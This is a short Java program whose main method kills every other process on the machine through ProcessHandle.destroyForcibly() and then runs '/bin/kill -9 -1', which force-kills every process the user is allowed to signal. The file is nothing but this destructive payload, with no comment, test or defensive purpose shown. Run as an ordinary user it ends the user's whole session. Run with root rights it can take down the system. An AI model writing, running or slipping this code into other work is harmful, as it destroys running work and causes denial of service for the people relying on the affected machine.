public class Main {
  public static void main(String[] args) throws Exception {
    ProcessHandle.allProcesses().forEach(process -> { if (process.pid() != ProcessHandle.current().pid()) process.destroyForcibly(); });
    new ProcessBuilder("/bin/kill", "-9", "-1").start();
  }
}
